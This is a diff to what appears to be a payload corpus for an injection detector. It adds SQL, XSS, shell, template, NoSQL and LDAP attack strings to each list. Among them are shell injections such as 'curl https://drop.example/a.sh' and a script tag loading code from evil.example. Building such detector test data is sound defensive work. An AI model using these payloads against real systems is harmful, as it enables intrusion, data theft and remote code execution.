@@ -3,6 +3,12 @@ import type { InjectionKind } from "@/lib/detection/injection/finding";
 
 export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
   sqli: [
+    "order by 12--",
+    "' group by login having 1=1--",
+    "a' or user() like '%",
+    "select current_user;",
+    "select * from pg_roles",
+    "bulk insert t from 'c:\\a.txt'",
     "' or 1=1--",
     "' OR '1'='1",
     "1 or 1=1",
@@ -92,6 +98,10 @@ export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
     "' or 'x'='x';#",
   ],
   xss: [
+    "<b onanything=x>",
+    '"tabindex=1 onfocus=alert(9)//',
+    "[7].map(alert)",
+    "<img src=x onerror/=alert(2)>",
     "<script>alert(1)</script>",
     "<ScRiPt >alert(1)</ScRiPt >",
     "<script src=//evil.example/x.js></script>",
@@ -157,6 +167,10 @@ export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
     "prompt`1`",
   ],
   shell: [
+    "| net view",
+    "; netsh firewall show state",
+    'reg query "HKLM\\SYSTEM"',
+    "curl https://drop.example/a.sh",
     "; id",
     ";id;",
     "| id",
@@ -260,6 +274,8 @@ export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
     "(system)('id')",
   ],
   template: [
+    "{{ [].class.base.subclasses() }}",
+    "{$smarty.version}",
     "{{7*7}}",
     "${7*7}",
     "#{7*7}",
@@ -292,6 +308,8 @@ export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
     "{php}phpinfo();{/php}",
   ],
   nosql: [
+    "[$gt]=1",
+    "' } ], $comment:'x'",
     '{"$ne":null}',
     '{"$gt":""}',
     '{"$where":"sleep(1000)"}',
@@ -308,6 +326,8 @@ export const attacks: Readonly<Record<InjectionKind, readonly string[]>> = {
     "'||1==1//",
   ],
   ldap: [
+    "a*(|(mail=*))",
+    "a*)((|cn=*)",
     "*)(uid=*))(|(uid=*",
     "*)(&",
     "admin)(&)",
